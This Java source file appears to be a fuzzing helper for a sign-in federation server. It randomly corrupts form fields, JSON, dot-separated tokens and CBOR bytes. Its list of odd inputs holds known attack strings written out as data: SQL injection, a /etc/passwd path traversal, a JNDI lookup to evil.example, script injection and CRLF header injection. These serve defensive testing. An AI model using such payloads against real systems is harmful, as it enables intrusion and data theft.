package io.threekey.server.federation;

import io.threekey.charter.json.Base64Url;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Pattern;

/** Changes honest requests at random, from what only looks odd to what no reader can make sense of. */
record Spoiling(Random random) {

    private static final Pattern BINARY = Pattern.compile("[A-Za-z0-9_-]{16,}");
    private static final Pattern BETWEEN_QUOTES = Pattern.compile("\"([^\"]*)\"");
    private static final int DEEP = 8_000;

    private static final List<String> ODD = List.of(
            "",
            " ",
            "null",
            "undefined",
            "NaN",
            "-1",
            "9".repeat(400),
            "1e999999",
            "' or 1=1 --",
            "\"; drop table signin_session; --",
            "../../../../etc/passwd",
            "${jndi:ldap://evil.example/x}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "%00",
            "\u0000",
            "a\u0000b",
            "\r\nSet-Cookie: a=b",
            "\uD83D\uDE00",
            "\uFEFFé\u202e\u0301",
            "[]",
            "{}",
            "e30.e30.e30",
            "bnVsbA.bnVsbA.AAAA",
            "urn:ietf:params:oauth:request_uri:",
            "\\".repeat(500),
            "A".repeat(20_000),
            "[".repeat(DEEP),
            "{\"a\":".repeat(DEEP));

    private static final List<String> OTHER_JSON = List.of(
            "null",
            "true",
            "-0",
            "1e999",
            "9".repeat(400),
            "[]",
            "{}",
            "\"\"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "[[[[]]]]");

    /** Heads of CBOR that promise more than there is: strings, arrays and maps of up to 2^64 bytes, and endless ones. */
    private static final List<byte[]> HEADS = List.of(
            bytes(0x5b, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff),
            bytes(0x7b, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff),
            bytes(0x9b, 0x00, 0x00, 0x00, 0x00, 0x7f, 0xff, 0xff, 0xff),
            bytes(0xbb, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff),
            bytes(0x5a, 0x7f, 0xff, 0xff, 0xff),
            bytes(0x9f, 0x9f, 0x9f),
            bytes(0xbf, 0xbf),
            bytes(0xc2, 0x5f, 0xff),
            bytes(0xfb, 0x7f, 0xf8, 0x00),
            bytes(0xff));

    /** @return a body that was a form */
    byte[] form(Map<String, String> honest) {
        var form = new LinkedHashMap<>(honest);
        for (var changes = 1 + random.nextInt(2); changes > 0; changes--) {
            var name = oneOf(List.copyOf(form.keySet()));
            form.put(name, value(form.getOrDefault(name, "")));
        }
        var body = written(form).getBytes(StandardCharsets.UTF_8);
        return random.nextInt(4) == 0 ? bytes(body) : body;
    }

    private String written(Map<String, String> form) {
        var pairs = new ArrayList<>(form.entrySet().stream()
                .map(one -> one.getKey() + "=" + URLEncoder.encode(one.getValue(), StandardCharsets.UTF_8))
                .toList());
        switch (random.nextInt(12)) {
            case 0 -> pairs.add(oneOf(pairs));
            case 1 -> pairs.remove(random.nextInt(pairs.size()));
            case 2 -> pairs.add("x=" + oneOf(List.of("%", "%zz", "%E0%80", "%C0%AF", "%ed%a0%80", "%u0041")));
            case 3 -> pairs.add("=".repeat(1 + random.nextInt(300)));
            case 4 -> pairs.add("&a".repeat(random.nextInt(1_500)));
            default -> {}
        }
        return String.join("&", pairs);
    }

    /** By what it seems to be. */
    String value(String honest) {
        if (random.nextInt(5) == 0) {
            return oneOf(ODD);
        }
        if (honest.startsWith("{")) {
            return json(honest);
        }
        if (honest.chars().filter(one -> one == '.').count() == 2) {
            return statement(honest);
        }
        return BINARY.matcher(honest).matches() ? binary(honest) : text(honest);
    }

    private String json(String honest) {
        var values = BETWEEN_QUOTES.matcher(honest).results().toList();
        if (values.isEmpty()) {
            return text(honest);
        }
        var one = values.get(random.nextInt(values.size()));
        var instead = switch (random.nextInt(4)) {
            case 0 -> oneOf(OTHER_JSON);
            case 1 -> "[".repeat(1 + random.nextInt(DEEP));
            default ->
                BINARY.matcher(one.group(1)).matches()
                        ? "\"" + binary(one.group(1)) + "\""
                        : "\"" + text(one.group(1)) + "\"";
        };
        var changed = honest.substring(0, one.start()) + instead + honest.substring(one.end());
        return random.nextInt(6) == 0 ? text(changed) : changed;
    }

    private String statement(String honest) {
        var parts = honest.split("\\.", -1);
        var at = random.nextInt(parts.length);
        var inside = isBinary(parts[at]) ? decoded(parts[at]) : "";
        parts[at] = inside.startsWith("{") && random.nextBoolean()
                ? Base64Url.encode(json(inside).getBytes(StandardCharsets.UTF_8))
                : binary(parts[at]);
        return String.join(".", parts);
    }

    /** Of one character too many, no bytes are written. */
    private static boolean isBinary(String text) {
        return text.length() % 4 != 1 && BINARY.matcher(text).matches();
    }

    private static String decoded(String part) {
        return new String(Base64.getUrlDecoder().decode(part), StandardCharsets.UTF_8);
    }

    private String binary(String honest) {
        return !isBinary(honest)
                ? text(honest)
                : Base64Url.encode(bytes(Base64.getUrlDecoder().decode(honest)));
    }

    private String text(String honest) {
        var at = random.nextInt(honest.length() + 1);
        return switch (random.nextInt(4)) {
            case 0 -> honest.substring(0, at);
            case 1 -> honest.substring(0, at) + (char) random.nextInt(0x3000) + honest.substring(at);
            case 2 -> honest.substring(at) + honest;
            default -> honest.substring(0, at) + oneOf(ODD) + honest.substring(at);
        };
    }

    byte[] bytes(byte[] honest) {
        return switch (random.nextInt(6)) {
            case 0 -> Arrays.copyOf(honest, random.nextInt(honest.length + 1));
            case 1 -> Arrays.copyOf(honest, honest.length + 1 + random.nextInt(3_000));
            case 2 -> spliced(honest, oneOf(HEADS));
            case 3 -> spliced(honest, filled(random.nextInt(DEEP), oneOf(List.of(0x81, 0xa1, 0x5b, 0x7b, 0x00, 0xff))));
            default -> flipped(honest);
        };
    }

    private byte[] flipped(byte[] honest) {
        var other = honest.clone();
        for (var flips = 1 + random.nextInt(8); flips > 0 && other.length > 0; flips--) {
            other[random.nextInt(other.length)] ^= (byte) (1 << random.nextInt(8));
        }
        return other;
    }

    private byte[] spliced(byte[] honest, byte[] foreign) {
        var at = random.nextInt(honest.length + 1);
        var all = new ByteArrayOutputStream();
        all.write(honest, 0, at);
        all.writeBytes(foreign);
        all.write(honest, at, honest.length - at);
        return all.toByteArray();
    }

    <T> T oneOf(List<T> all) {
        return all.get(random.nextInt(all.size()));
    }

    private static byte[] filled(int length, int with) {
        var all = new byte[length];
        Arrays.fill(all, (byte) with);
        return all;
    }

    private static byte[] bytes(int... values) {
        var all = new byte[values.length];
        for (var i = 0; i < values.length; i++) {
            all[i] = (byte) values[i];
        }
        return all;
    }
}
